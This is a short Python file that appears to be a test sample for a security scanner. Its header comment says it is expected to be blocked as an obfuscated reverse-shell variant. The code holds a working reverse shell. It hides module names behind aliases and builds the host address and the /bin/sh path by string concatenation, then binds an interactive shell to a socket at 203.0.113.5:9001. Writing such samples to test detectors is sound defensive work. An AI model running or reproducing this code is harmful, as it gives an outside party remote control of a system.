# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/subprocess_stdio.py technique: alias+concat
import socket as _m0
import subprocess as _m1
conn = _m0.create_connection(('203' + '.0.' + '113' + '.5', 9001))
_m1.Popen(['/b' + 'in' + '/s' + 'h', '-' + 'i'], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno()).wait()
